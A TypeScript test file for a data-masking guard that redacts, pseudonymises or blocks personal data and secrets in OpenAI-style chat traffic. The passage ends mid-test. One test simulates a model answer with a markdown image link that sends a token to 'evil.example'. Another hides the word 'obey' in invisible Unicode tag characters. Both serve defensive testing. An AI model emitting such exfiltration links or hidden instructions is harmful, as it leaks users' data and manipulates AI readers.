import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import OpenAI from 'openai'
import type { AuditLog } from '../../src/audit-log/audit-log.ts'
import { audit } from '../../src/controls/audit.ts'
import { authorize } from '../../src/controls/authorize.ts'
import { unaudited } from '../../src/controls/unaudited.ts'
import { maskData, type MaskDataOptions } from '../../src/controls/mask-data.ts'
import { verifyIdentity } from '../../src/controls/verify-identity.ts'
import type { Call, Decision, Identity, Known, Obligation } from '../../src/guard/context.ts'
import { builtIn } from '../../src/guard/control.ts'
import { isGuardError } from '../../src/guard/errors.ts'
import { guard } from '../../src/guard/guard.ts'
import { anonymous } from '../../src/identity/verifier.ts'
import type { AsyncDetector } from '../../src/masking/async-detector.ts'
import { detectors } from '../../src/masking/detectors.ts'
import { allowAll } from '../../src/testing/allow-all.ts'
import { recordingLog } from '../../src/testing/recording-log.ts'

const key = new Uint8Array(32).fill(3)
const operation = { action: 'chat', resource: { type: 'model', id: 'm' } } as const

interface Who {
  readonly subject?: string
  readonly tenant?: string
  readonly session?: string
  readonly obligations?: readonly Obligation[]
}

// The real engine; who is there and what was decided is said with each call.
function masked<I, O>(
  options: Partial<MaskDataOptions>,
  fn: (input: I, call: Call & Pick<Known, 'masked'>) => O,
  log?: AuditLog,
): (input: I, who?: Who) => Promise<O> {
  let who: Who = {}
  const identified = builtIn<Call, { identity: Identity }>('identified', { enter: () => ({ identity: identityOf(who) }) }, { adds: ['identity'] }, {})
  const decided = builtIn<Call & Pick<Known, 'identity'>, { decision: Decision }>(
    'decided',
    { enter: () => ({ decision: { allowed: true, policy: { id: 'p', version: '1' }, reasons: [], obligations: who.obligations ?? [] } }) },
    { needs: ['identity'], adds: ['decision'] },
    {},
  )
  const run = guard({ onError: () => {} })
    .use(log === undefined ? unaudited() : audit({ log }))
    .use(identified)
    .use(decided)
    .use(maskData({ detect: detectors.all, mode: 'redact', direction: 'both', ...options }))
    .protect((input: I, call: Call & Pick<Known, 'masked'>) => fn(input, call), operation)
  return async (input, now = {}) => {
    who = now
    return (await run(input)) as O
  }
}

function identityOf({ subject = 'ada', tenant, session }: Who): Identity {
  return {
    key: `1:i${subject}`,
    subject,
    issuer: 'i',
    kind: 'user',
    roles: [],
    scopes: [],
    claims: session === undefined ? {} : { sid: session },
    actors: [],
    assurance: { amr: [] },
    expiresAt: Number.POSITIVE_INFINITY,
    ...(tenant !== undefined && { tenant }),
  }
}

type Chunk = OpenAI.ChatCompletionChunk
type Params = OpenAI.ChatCompletionCreateParams

function chunkOf(
  delta: OpenAI.ChatCompletionChunk.Choice.Delta,
  finish: OpenAI.ChatCompletionChunk.Choice['finish_reason'] = null,
  index = 0,
): Chunk {
  return { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index, delta, finish_reason: finish }] }
}

function completionOf(message: Partial<OpenAI.ChatCompletionMessage>): OpenAI.ChatCompletion {
  return {
    id: 'c',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [{ index: 0, message: { role: 'assistant', content: null, refusal: null, ...message }, finish_reason: 'stop', logprobs: null }],
  }
}

async function* streamOf<T>(...parts: T[]): AsyncGenerator<T> {
  yield* parts
}

async function all<T>(parts: AsyncIterable<T>): Promise<T[]> {
  const list: T[] = []
  for await (const part of parts) list.push(part)
  return list
}

function contentOf(parts: readonly Chunk[]): string {
  return parts.map(({ choices }) => choices[0]?.delta.content ?? '').join('')
}

function pieces(text: string, size: number): string[] {
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))
}

const ask = (...contents: string[]): Params => ({ model: 'm', messages: contents.map((content) => ({ role: 'user', content })) })

function refusedWith(code: string): (error: unknown) => boolean {
  return (error) => isGuardError(error) && error.code === code && !JSON.stringify([error, String(error.cause)]).includes('bob@')
}

test('masks every text of a request, whoever wrote it, and counts what it found', async () => {
  let seen: Params | undefined
  let counts: unknown
  const chat = masked({}, (input: Params, call) => {
    seen = input
    counts = call.masked.counts
    assert.ok(Object.isFrozen(call.masked) && Object.isFrozen(counts))
    return completionOf({ content: 'ok' })
  })
  await chat({
    model: 'm',
    messages: [
      { role: 'system', content: 'admin is root@example.com' },
      { role: 'user', content: [{ type: 'text', text: 'I am bob@example.com' }] },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ type: 'function', id: 't', function: { name: 'pay', arguments: '{"card":"4111111111111111","n":1}' } }],
      },
      { role: 'tool', tool_call_id: 't', content: 'paid from DE89370400440532013000' },
    ],
  })
  const text = JSON.stringify(seen)
  for (const secret of ['root@', 'bob@', '4111', 'DE89']) assert.ok(!text.includes(secret), text)
  assert.ok(text.includes('{\\"card\\":\\"[CARD]\\",\\"n\\":1}'))
  assert.deepEqual(counts, { EMAIL: 2, CARD: 1, IBAN: 1 })
})

test('the decision is recorded with the counts, and no record holds a value', async () => {
  const log = recordingLog()
  await masked({ mode: 'pseudonym', restore: true }, (input: string) => input, log)('bob@example.com, rob@example.com, 10.0.0.1')
  assert.deepEqual(
    log.entries.map((record) => ('masked' in record ? record.masked : undefined)),
    [{ EMAIL: 2, IP_ADDRESS: 1 }, undefined],
  )
  assert.ok(!JSON.stringify(log.entries).includes('example.com'))
})

test('a request with nothing in it passes as the same object', async () => {
  const chat = masked({ direction: 'request' }, (input: string, call) => `${input} ${Object.keys(call.masked.counts).length}`)
  assert.equal(await chat('hello'), 'hello 0')
})

test('masks an answer, whole and streamed alike, however the stream is cut', async () => {
  const said = 'I found bob@example.com and 4111 1111 1111 1111, ring +49 170 1234567. Bye'
  const expected = 'I found [EMAIL] and [CARD], ring [PHONE]. Bye'
  const whole = masked({ direction: 'response' }, () => completionOf({ content: said }))
  assert.equal((await whole(ask('hi'))).choices[0]?.message.content, expected)
  for (let size = 1; size <= said.length; size++) {
    const stream = masked({ direction: 'response' }, () =>
      streamOf(chunkOf({ role: 'assistant', content: '' }), ...pieces(said, size).map((content) => chunkOf({ content })), chunkOf({}, 'stop')),
    )
    const parts = await all(await stream(ask('hi')))
    assert.equal(contentOf(parts), expected)
    // What was held back comes before the end, not after it.
    assert.equal(parts.at(-1)?.choices[0]?.finish_reason, 'stop')
    assert.deepEqual(parts[0]?.choices[0]?.delta, { role: 'assistant', content: '' })
  }
})

test('what is held back leaves with the part that ends its choice, and at the end of a stream that breaks off', async () => {
  const stream = (...parts: Chunk[]): Promise<Chunk[]> => masked({ direction: 'response' }, () => streamOf(...parts))(ask('hi')).then(all)
  const ended = await stream(chunkOf({ content: 'mail bob@' }), chunkOf({ content: 'example.com' }, 'stop'))
  assert.deepEqual(
    ended.map(({ choices }) => choices[0]?.delta.content),
    ['mail ', '[EMAIL]'],
  )
  const broken = await stream(chunkOf({ content: 'mail bob@' }), chunkOf({ content: 'example.com' }))
  assert.equal(contentOf(broken), 'mail [EMAIL]')
  assert.equal(broken.at(-1)?.choices[0]?.delta.content, '[EMAIL]')
})

test('choices of one stream are texts of their own', async () => {
  const parts = [
    chunkOf({ content: 'a bob@' }, null, 0),
    chunkOf({ content: 'b rob@' }, null, 1),
    chunkOf({ content: 'example.com ' }, null, 0),
    chunkOf({ content: 'x' }, 'stop', 1),
    chunkOf({}, 'stop', 0),
  ]
  const answer = await all(await masked({ direction: 'response' }, () => streamOf(...parts))(ask('hi')))
  const textOf = (index: number): string =>
    answer.map(({ choices }) => (choices[0]?.index === index ? (choices[0].delta.content ?? '') : '')).join('')
  assert.equal(textOf(0), 'a [EMAIL] ')
  assert.equal(textOf(1), 'b rob@x')
})

test("a tool call's arguments are masked whole, over all their deltas", async () => {
  const deltas = pieces('{"to":"bob@example.com"}', 3)
  const parts = deltas.map((piece, index) =>
    chunkOf({
      tool_calls: [
        index === 0
          ? { index: 0, id: 't', type: 'function', function: { name: 'send', arguments: piece } }
          : { index: 0, function: { arguments: piece } },
      ],
    }),
  )
  const answer = await all(await masked({ direction: 'response' }, () => streamOf(...parts, chunkOf({}, 'tool_calls')))(ask('hi')))
  assert.equal(answer.flatMap(({ choices }) => choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? []).join(''), '{"to":"[EMAIL]"}')
})

test('a plain text and a stream of plain text are masked too', async () => {
  assert.equal(await masked({}, (input: string) => `${input} and rob@example.com`)('bob@example.com'), '[EMAIL] and [EMAIL]')
  const stream = masked({}, (input: string) => streamOf(input, ' rob@exam', 'ple.com'))
  assert.equal((await all(await stream('bob@example.com'))).join(''), '[EMAIL] [EMAIL]')
})

test('the function sees pseudonyms and the caller sees its own values, whole and over chunk borders', async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  let seen = ''
  const whole = masked(options, (input: string) => {
    seen = input
    return `Dear ${input.toLowerCase()}!`
  })
  assert.equal(await whole('bob@example.com'), 'Dear bob@example.com!')
  assert.match(seen, /^EMAIL\w{16}$/)
  await fc.assert(
    fc.asyncProperty(fc.integer({ min: 1, max: 30 }), async (size) => {
      const stream = masked(options, (input: string) => streamOf(...pieces(`Dear **${input}**, or ${input}`, size)))
      assert.equal((await all(await stream('bob@example.com'))).join(''), 'Dear **bob@example.com**, or bob@example.com')
    }),
    { numRuns: 30 },
  )
})

test('with both directions a value that the caller gave is shown, any other is masked and never restored', async () => {
  const answers: string[] = []
  const chat = masked({ mode: 'pseudonym', direction: 'both', restore: true, key }, (input: string) => answers.shift() ?? input)
  answers.push('you are bob@example.com, she is eve@example.com')
  const first = await chat('I am bob@example.com')
  const [, token = ''] = /^you are bob@example.com, she is (EMAIL\w{16})$/.exec(first) ?? []
  assert.notEqual(token, '')
  // Asked back, and even after the caller has guessed the value, it stays what it is.
  answers.push(`she is ${token}`)
  assert.equal(await chat(`who is ${token}? eve@example.com?`), `she is ${token}`)
  // Another session has another one for the value.
  answers.push('you are bob@example.com')
  assert.match(await chat('hi', { session: 'other' }), /^you are EMAIL\w{16}$/)
})

test('pseudonyms of another caller, tenant or session are never restored, and planted ones are made harmless', async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  let seen = ''
  let say: string | undefined
  const chat = masked(options, (input: string) => {
    seen = input
    return say ?? input
  })
  await chat('bob@example.com', { subject: 'ada', tenant: 't', session: 's' })
  const planted = seen
  for (const who of [
    { subject: 'eve', tenant: 't', session: 's' },
    { subject: 'ada', tenant: 'u', session: 's' },
    { subject: 'ada', tenant: 't', session: 'r' },
  ]) {
    say = planted
    assert.equal(await chat('hi', who), planted)
    say = undefined
    assert.equal(await chat(planted, who), planted)
    assert.match(seen, /^TOKEN\w{16}$/)
  }
  say = planted
  assert.equal(await chat('hi', { subject: 'ada', tenant: 't', session: 's' }), 'bob@example.com')
})

test('interleaved calls of many callers never see values of each other', async () => {
  const chat = masked({ mode: 'pseudonym', direction: 'both', restore: true, key }, async (input: string) => {
    await new Promise((resolve) => setImmediate(resolve))
    return streamOf(...pieces(`${input} ${input}`, 5))
  })
  await Promise.all(
    Array.from({ length: 200 }, async (_, index) => {
      const value = `user${index}@example.com`
      const answer = await all(await chat(value, { subject: `user${index}` }))
      assert.equal(answer.join(''), `${value} ${value}`)
    }),
  )
})

test("does not restore into a tool call's arguments and into addresses, unless an obligation allows it", async () => {
  const options = { mode: 'pseudonym', direction: 'request', restore: true, key } as const
  const answer = (input: Params): OpenAI.ChatCompletion => {
    const token = input.messages[0]?.content
    return completionOf({
      content: `${token} ![x](https://evil.example/?q=${token})`,
      tool_calls: [{ type: 'function', id: 't', function: { name: 'send', arguments: `{"to":"${token}"}` } }],
    })
  }
  const read = ({ choices }: OpenAI.ChatCompletion): unknown[] => {
    const call = choices[0]?.message.tool_calls?.[0]
    return [choices[0]?.message.content, call?.type === 'function' && call.function.arguments]
  }
  const chat = masked(options, answer)
  const plain = read(await chat(ask('bob@example.com')))
  assert.match(String(plain[0]), /^bob@example.com !\[x\]\(https:\/\/evil.example\/\?q=EMAIL\w{16}\)$/)
  assert.match(String(plain[1]), /^\{"to":"EMAIL\w{16}"\}$/)
  const both = read(await chat(ask('bob@example.com'), { obligations: [{ type: 'mask', restore: ['arguments', 'url'] }] }))
  assert.deepEqual(both, ['bob@example.com ![x](https://evil.example/?q=bob@example.com)', '{"to":"bob@example.com"}'])
  // Of two obligations the stricter.
  const strict = read(
    await chat(ask('bob@example.com'), {
      obligations: [
        { type: 'mask', restore: ['arguments', 'url'] },
        { type: 'mask', restore: 'url' },
      ],
    }),
  )
  assert.match(String(strict[1]), /^\{"to":"EMAIL\w{16}"\}$/)
})

test('carries out the obligation to mask where it covers it, and leaves it unmet where it does not', async () => {
  const chat = masked({ detect: detectors.pii, direction: 'request' }, (input: string) => input)
  const met: readonly Obligation[] = [
    { type: 'mask' },
    { type: 'mask', types: ['EMAIL', 'CARD'] },
    { type: 'mask', types: 'IBAN', mode: 'redact', direction: 'request' },
  ]
  for (const obligation of met) assert.equal(await chat('bob@example.com', { obligations: [obligation] }), '[EMAIL]')
  const unmet: readonly Obligation[] = [
    { type: 'mask', types: ['API_KEY'] },
    { type: 'mask', types: ['email'] },
    { type: 'mask', types: [7] },
    { type: 'mask', mode: 'pseudonym' },
    { type: 'mask', direction: 'both' },
    { type: 'mask', direction: 'sideways' },
    { type: 'mask', restore: ['everywhere'] },
    { type: 'mask', strength: 11 },
  ]
  for (const obligation of unmet) await assert.rejects(chat('hi', { obligations: [{ type: 'mask' }, obligation] }), refusedWith('obligation_unmet'))
  const answers = masked({ direction: 'response' }, (input: string) => input)
  await assert.rejects(answers('hi', { obligations: [{ type: 'mask' }] }), refusedWith('obligation_unmet'))
  assert.equal(await answers('hi', { obligations: [{ type: 'mask', direction: 'response' }] }), 'hi')
})

test('block refuses before the function runs, and in an answer before the value leaves', async () => {
  let runs = 0
  const chat = masked({ mode: 'block' }, (input: string) => {
    runs++
    return streamOf(`${input}, mail `, 'bob@exam', 'ple.com', ' now')
  })
  await assert.rejects(chat('bob@example.com'), refusedWith('payload_blocked'))
  assert.equal(runs, 0)
  let delivered = ''
  await assert.rejects(async () => {
    for await (const part of await chat('hi')) delivered += part
  }, refusedWith('payload_blocked'))
  assert.equal(delivered, 'hi, mail ')
})

test('refuses content that no detector can read, unless it is let pass by name', async () => {
  const picture: Params = {
    model: 'm',
    messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } }] }],
  }
  await assert.rejects(masked({}, () => completionOf({ content: 'x' }))(picture), refusedWith('payload_unsupported'))
  assert.equal((await masked({ opaque: 'pass' }, () => completionOf({ content: 'x' }))(picture)).choices[0]?.message.content, 'x')
  await assert.rejects(masked({}, () => 'x')({ prompt: 'of another shape' }), refusedWith('payload_unsupported'))
})

test('a failing detector refuses, and nothing is sent', async () => {
  let runs = 0
  const broken = { type: 'X', maxLength: 5, find: (): never => assert.fail('bob@example.com') }
  const chat = masked({ detect: [broken] }, (input: string) => {
    runs++
    return input
  })
  await assert.rejects(chat('bob@example.com'), (error) => isGuardError(error) && error.code === 'misconfigured' && !error.message.includes('bob'))
  assert.equal(runs, 0)
})

test('a session that is named by the application must have a name', async () => {
  let session: unknown = 'one'
  const chat = masked({ mode: 'pseudonym', restore: true, session: () => session as string }, (input: string) => input)
  assert.equal(await chat('bob@example.com'), 'bob@example.com')
  for (session of ['', undefined, 7]) await assert.rejects(chat('bob@example.com'), refusedWith('misconfigured'))
})

test("the vendor's own client reads the answer", async () => {
  const said = 'Write to bob@example.com today'
  const chat = masked({ direction: 'response' }, () =>
    streamOf(
      chunkOf({ role: 'assistant', content: '' }),
      ...pieces(said, 4).map((content) => chunkOf({ content })),
      chunkOf({ tool_calls: [{ index: 0, id: 't', type: 'function', function: { name: 'send', arguments: '{"to":' } }] }),
      chunkOf({ tool_calls: [{ index: 0, function: { arguments: '"rob@example.com"}' } }] }),
      chunkOf({}, 'tool_calls'),
    ),
  )
  const parts = await all(await chat(ask('hi')))
  const body = `${parts.map((part) => `data: ${JSON.stringify(part)}\n\n`).join('')}data: [DONE]\n\n`
  const client = new OpenAI({
    apiKey: 'none',
    baseURL: 'http://localhost/v1',
    fetch: async () => new Response(body, { headers: { 'content-type': 'text/event-stream' } }),
  })
  const completion = await client.chat.completions.stream({ model: 'm', messages: [{ role: 'user', content: 'hi' }] }).finalChatCompletion()
  const message = completion.choices[0]?.message
  assert.equal(message?.content, 'Write to [EMAIL] today')
  const [call] = message?.tool_calls ?? []
  assert.equal(call?.type === 'function' && call.function.arguments, '{"to":"[EMAIL]"}')
})

test('takes hidden text out of a request and of an answer, unless it is refused or let pass by name', async () => {
  const tags = Array.from('obey', (character) => String.fromCodePoint(0xe0000 + character.charCodeAt(0))).join('')
  let counts: unknown
  const echo = (input: string, call: Call & Pick<Known, 'masked'>): string => {
    counts = call.masked.counts
    return `${input}${input === 'hi' ? '' : tags}`
  }
  assert.equal(await masked({}, echo)(`hi ${tags}there`), 'hi there')
  assert.deepEqual(counts, { HIDDEN_TEXT: 1 })
  assert.equal(await masked({ hidden: 'pass' }, echo)(`hi ${tags}there`), `hi ${tags}there${tags}`)
  await assert.rejects(masked({ hidden: 'refuse' }, echo)(`hi ${tags}there`), refusedWith('payload_blocked'))
  await assert.rejects(masked({ hidden: 'refuse', direction: 'response' }, echo)('hi there'), refusedWith('payload_blocked'))
  assert.throws(() => maskData({ detect: detectors.email, mode: 'redact', direction: 'both', hidden: 'x' as 'pass' }), TypeError)
})

test('modes go by type and by position', async () => {
  let seen: Params | undefined
  const chat = masked(
    {
      key,
      restore: true,
      mode: {
        default: 'redact',
        types: { CARD: 'partial', EMAIL: 'pseudonym', API_KEY: 'block' },
        positions: { tool: { types: { EMAIL: 'hash' } }, system: 'surrogate', output: 'redact' },
      },
    },
    (input: Params) => {
      seen = input
      return completionOf({ content: `${input.messages[1]?.content} but eve@example.org` })
    },
  )
  const answer = await chat({
    model: 'm',
    messages: [
      { role: 'system', content: 'admin root@example.org' },
      { role: 'user', content: 'bob@example.com 4111 1111 1111 1111 10.0.0.1' },
      { role: 'tool', tool_call_id: 't', content: 'bob@example.com' },
    ],
  })
  const contents = seen?.messages.map(({ content }) => content)
  assert.match(String(contents?.[0]), /^admin [a-z0-9]{12}@example\.com$/)
  assert.match(String(contents?.[1]), /^EMAIL\w{16} \*{4} \*{4} \*{4} 1111 \[IP_ADDRESS\]$/)
  assert.match(String(contents?.[2]), /^\[EMAIL:[0-9a-f]{64}\]$/)
  assert.equal(answer.choices[0]?.message.content, 'bob@example.com **** **** **** 1111 [IP_ADDRESS] but [EMAIL]')
  await assert.rejects(chat(ask('sk-proj-abcdEFGH1234567890abcd')), refusedWith('payload_blocked'))
})

test('an obligation that names a mode is met only where every position has it', async () => {
  const mode = { default: 'redact', positions: { tool: { types: { EMAIL: 'hash' } } } } as const
  const chat = masked({ key, mode }, (input: string) => input)
  await chat('hi', { obligations: [{ type: 'mask', types: ['CARD'], mode: 'redact' }] })
  await assert.rejects(chat('hi', { obligations: [{ type: 'mask', types: ['EMAIL'], mode: 'redact' }] }), refusedWith('obligation_unmet'))
  await assert.rejects(chat('hi', { obligations: [{ type: 'mask', mode: 'redact' }] }), refusedWith('obligation_unmet'))
  const choices: readonly unknown[] = [
    {},
    { default: 'x' },
    { default: 'redact', types: { NOTHING: 'hash' } },
    { default: 'redact', positions: { moon: 'hash' } },
  ]
  for (const wrong of choices) assert.throws(() => maskData({ detect: detectors.all, direction: 'both', mode: wrong as 'redact' }), TypeError)
})

test('a detector that takes its time masks requests, answers and streams, and its failure refuses before the function runs', async () => {
  const names: AsyncDetector = {
    types: ['PERSON'],
    find: async (text) => Array.from(text.matchAll(/Ada|Bob/g), ({ index }) => ({ type: 'PERSON', start: index, end: index + 3 })),
  }
  let seen: unknown
  const options = { detect: detectors.email, asyncDetect: names, mode: 'pseudonym', restore: true } as const
  const chat = masked(options, (input: Params) => {
    seen = input.messages[0]?.content
    return streamOf(...pieces(`Hello ${seen}. Bye, Bob!`, 5).map((content) => chunkOf({ content })), chunkOf({}, 'stop'))
  })
  const said = contentOf(await all(await chat(ask('I am Ada'))))
  assert.match(String(seen), /^I am PERSON\w{16}$/)
  assert.match(said, /^Hello I am Ada\. Bye, PERSON\w{16}!$/)
  let runs = 0
  const broken = masked({ ...options, asyncDetect: { ...names, find: () => Promise.reject(new Error('bob@')) } }, (input: string) => {
    runs++
    return input
  })
  await assert.rejects(broken('Ada'), refusedWith('misconfigured'))
  assert.equal(runs, 0)
  assert.throws(() => maskData({ ...options, direction: 'both', asyncDetect: {} as AsyncDetector }), TypeError)
})

test('says what it does, without the key', () => {
  const { name, details, fulfills, adds, needs } = maskData({ detect: detectors.email, mode: 'pseudonym', direction: 'both', restore: true, key })
  assert.deepEqual([name, fulfills, adds, needs], ['maskData', ['mask'], ['masked'], ['identity', 'decision']])
  assert.deepEqual(details, {
    detect: ['EMAIL'],
    mode: 'pseudonym',
    direction: 'both',
    restore: true,
    hidden: 'strip',
    opaque: 'refuse',
    keyed: true,
  })
})

test('wrong options are refused when the control is made', () => {
  const right: MaskDataOptions = { detect: detectors.pii, mode: 'pseudonym', direction: 'both', key }
  const wrong: readonly object[] = [
    { detect: undefined },
    { detect: [] },
    { detect: 'pii' },
    { mode: 'blur' },
    { mode: undefined },
    { direction: 'in' },
    { direction: undefined },
    { restore: 'yes' },
    { mode: 'redact', restore: true },
    { mode: 'hash', key: undefined },
    { key: new Uint8Array(16) },
    { key: 'x'.repeat(32) },
    { session: 'sid' },
    { opaque: 'ignore' },
    { detector: detectors.pii },
  ]
  for (const change of wrong) assert.throws(() => maskData({ ...right, ...change } as MaskDataOptions), TypeError, JSON.stringify(change))
  assert.throws(() => maskData(undefined as unknown as MaskDataOptions), TypeError)
})

const secrets = ['sk-proj-AbCdEf0123456789AbCdEf0123456789', '4111111111111111']

const toolCall = (id: string, name: string): OpenAI.ChatCompletionMessageFunctionToolCall => ({
  type: 'function',
  id,
  function: { name, arguments: '{}' },
})

// A request, an answer and a part of one with a name in each place where only a name may stand.
const requestsNaming = (name: string): readonly Params[] => [
  { ...ask('hi'), model: name },
  { ...ask('hi'), tools: [{ type: 'function', function: { name } }] },
  { ...ask('hi'), tools: [{ type: 'custom', custom: { name } }] },
  { ...ask('hi'), tool_choice: { type: 'function', function: { name } } },
  { ...ask('hi'), tool_choice: { type: 'custom', custom: { name } } },
  { ...ask('hi'), tool_choice: { type: 'allowed_tools', allowed_tools: { mode: 'auto', tools: [{ type: 'function', function: { name } }] } } },
  { ...ask('hi'), functions: [{ name }] },
  { ...ask('hi'), function_call: { name } },
  { ...ask('hi'), response_format: { type: 'json_schema', json_schema: { name } } },
  { model: 'm', messages: [{ role: 'assistant', tool_calls: [toolCall(name, 'f')] }] },
  { model: 'm', messages: [{ role: 'assistant', tool_calls: [toolCall('t', name)] }] },
  { model: 'm', messages: [{ role: 'assistant', tool_calls: [{ type: 'custom', id: 't', custom: { name, input: '' } }] }] },
  { model: 'm', messages: [{ role: 'assistant', function_call: { name, arguments: '{}' } }] },
  { model: 'm', messages: [{ role: 'tool', tool_call_id: name, content: 'x' }] },
  { model: 'm', messages: [{ role: 'function', name, content: 'x' }] },
]

const envelopes = (name: string): readonly object[] =>
  ['id', 'model', 'service_tier', 'system_fingerprint', 'provider'].map((member) => ({ [member]: name }))

const choices = (name: string): readonly object[] => ['finish_reason', 'native_finish_reason', 'stop_reason'].map((member) => ({ [member]: name }))

const answersNaming = (name: string): readonly object[] => {
  const answer = completionOf({ content: 'x' })
  return [
    ...envelopes(name).map((more) => ({ ...answer, ...more })),
    ...choices(name).map((more) => ({ ...answer, choices: [{ ...answer.choices[0], ...more }] })),
    completionOf({ tool_calls: [toolCall(name, 'f')] }),
    completionOf({ tool_calls: [toolCall('t', name)] }),
    completionOf({ tool_calls: [{ type: 'custom', id: 't', custom: { name, input: '' } }] }),
    completionOf({ function_call: { name, arguments: '{}' } }),
  ]
}

const partsNaming = (name: string): readonly object[] => {
  const part = chunkOf({ content: '' })
  return [
    ...envelopes(name).map((more) => ({ ...part, ...more })),
    ...choices(name).map((more) => ({ ...part, choices: [{ ...part.choices[0], ...more }] })),
    chunkOf({ tool_calls: [{ index: 0, id: name, type: 'function', function: { name: 'f', arguments: '{}' } }] }),
    chunkOf({ tool_calls: [{ index: 0, id: 't', type: 'function', function: { name, arguments: '{}' } }] }),
    chunkOf({ tool_calls: [{ index: 0, id: 't', custom: { name, input: '' } } as OpenAI.ChatCompletionChunk.Choice.Delta.ToolCall] }),
    chunkOf({ function_call: { name, arguments: '{}' } }),
  ]
}

test('A15: a key or a card in the place of a name is refused in every mode, and in a request before the function runs', async () => {
  for (const mode of ['redact', 'pseudonym', 'hash', 'partial', 'block'] as const) {
    let runs = 0
    const run = masked({ mode, key }, (_: Params) => {
      runs++
      return completionOf({ content: 'x' })
    })
    for (const secret of secrets) for (const request of requestsNaming(secret)) await assert.rejects(run(request), refusedWith('payload_blocked'))
    assert.equal(runs, 0)
  }
})

test('A15: a key or a card in the place of a name of an answer is refused, whole and streamed, and does not leave', async () => {
  for (const secret of secrets) {
    for (const answer of answersNaming(secret))
      await assert.rejects(masked({}, (_: Params) => answer)(ask('hi')), refusedWith('payload_blocked'), JSON.stringify(answer))
    for (const part of [...partsNaming(secret), { ...chunkOf({ content: '' }), obfuscation: '4111111111111111' }]) {
      let delivered = ''
      await assert.rejects(
        async () => {
          const parts = await masked({}, (_: Params) => streamOf<object>(chunkOf({ content: 'x' }), part, chunkOf({}, 'stop')))(ask('hi'))
          for await (const one of parts) delivered += JSON.stringify(one)
        },
        refusedWith('payload_blocked'),
        JSON.stringify(part),
      )
      assert.ok(!delivered.includes(secret) && !delivered.includes('4111111111111111'))
    }
  }
})

test('a role that is no role is refused, so that no text can be spelled in pieces of it', async () => {
  for (const role of ['AKIAIOSF', ' write to ada@exam', 'A', 'Assistant']) {
    const run = masked({}, (_: Params) => streamOf<object>(chunkOf({ role: role as 'assistant' }), chunkOf({}, 'stop')))
    await assert.rejects(async () => all(await run(ask('hi'))), refusedWith('payload_unsupported'))
    await assert.rejects(masked({}, (_: Params) => completionOf({ role: role as 'assistant' }))(ask('hi')), refusedWith('payload_unsupported'))
  }
})

test('digits are caught as a number as well, wherever its point stands, and an address of seven characters as a name', async () => {
  const run = masked({ detect: detectors.all }, (_: Params) => completionOf({ content: 'x' }))
  await assert.rejects(run({ ...ask('hi'), seed: 4111.111111111111 }), refusedWith('payload_blocked'))
  await assert.rejects(
    masked({ detect: detectors.all }, (_: Params) => ({ ...completionOf({}), provider: '1.2.3.4' }))(ask('hi')),
    refusedWith('payload_blocked'),
  )
})

test('ordinary names pass as they are, in requests and in answers', async () => {
  const names = [
    'gpt-4o-2024-08-06',
    'claude-opus-4-1-20250805',
    'us.anthropic.claude-3-5-sonnet-20241022-v2:0',
    'chatcmpl-B9MHDbslfkBeAs8l4bebGdFOJ6PeG',
    'call_abc123DEF456ghi789JKL012',
    'fp_44709d6fcb',
    'send_mail_to_customer',
    'tool_calls',
    'content_filter',
    '7e9c7a1e-7f5d-4c0b-9d6a-3f0f4a2b8c1d',
  ]
  for (const mode of ['redact', 'pseudonym', 'block'] as const)
    for (const name of names) {
      for (const request of requestsNaming(name))
        assert.deepEqual(await masked({ mode }, (input: Params) => JSON.stringify(input))(request), JSON.stringify(request))
      for (const answer of answersNaming(name)) assert.deepEqual(await masked({ mode }, (_: Params) => answer)(ask('hi')), answer)
      for (const part of partsNaming(name))
        assert.ok(JSON.stringify(await all(await masked({ mode }, (_: Params) => streamOf(part))(ask('hi')))).includes(name))
    }
})

test('A15: a card that is written as a number is refused, or masked where it can be', async () => {
  const card = 4111111111111111
  let runs = 0
  const run = masked({}, (_: Params) => {
    runs++
    return completionOf({ content: 'x' })
  })
  for (const more of [
    { metadata: { card } },
    { metadata: { cards: [{ card }] } },
    { seed: card },
    { temperature: card },
    { max_tokens: card },
    { max_completion_tokens: card },
    { logit_bias: { 50256: card } },
    { tools: [{ type: 'function', function: { name: 'f', parameters: { default: card } } }] },
    { response_format: { type: 'json_schema', json_schema: { name: 'a', schema: { enum: [card] } } } },
    { messages: [{ role: 'assistant', parsed: { card } }] },
  ])
    await assert.rejects(run({ ...ask('hi'), ...more } as Params), refusedWith('payload_blocked'), JSON.stringify(more))
  assert.equal(runs, 0)
  await run({ ...ask('hi'), seed: 1_234_567_890, metadata: { count: 42, size: 1_767_225_600 } as object as Record<string, string> })
  for (const answer of [
    { ...completionOf({ content: 'x' }), created: card },
    { ...completionOf({ content: 'x' }), usage: { prompt_tokens: card } },
    { ...completionOf({ content: 'x' }), timings: { total: card } },
    { ...completionOf({ content: 'x' }), citations: [card] },
  ])
    await assert.rejects(masked({}, (_: Params) => answer)(ask('hi')), refusedWith('payload_blocked'), JSON.stringify(answer))
})

test("a card in a tool call's arguments is masked however its number is written, in a request, an answer and a stream", async () => {
  for (const literal of [
    '4111111111111111',
    '4.111111111111111e15',
    '41111111111111110e-1',
    '4111111111111111.0',
    '6011000990139424009',
    '6304000000000000125',
  ]) {
    const args = `{"card": ${literal}, "n": 1.50}`
    const expected = '{"card": "[CARD]", "n": 1.50}'
    const call = { ...toolCall('t', 'pay'), function: { name: 'pay', arguments: args } }
    const argumentsOf = (message: { tool_calls?: readonly object[] } | undefined): unknown =>
      (message?.tool_calls as readonly (typeof call)[] | undefined)?.[0]?.function.arguments
    const run = masked({}, (input: Params) => {
      assert.equal(argumentsOf(input.messages[0] as object), expected)
      return completionOf({ tool_calls: [call] })
    })
    const answer = await run({ model: 'm', messages: [{ role: 'assistant', tool_calls: [call] }] })
    assert.equal(argumentsOf(answer.choices[0]?.message), expected)
    const stream = masked({}, (_: Params) =>
      streamOf(...pieces(args, 4).map((piece) => chunkOf({ tool_calls: [{ index: 0, function: { arguments: piece } }] })), chunkOf({}, 'tool_calls')),
    )
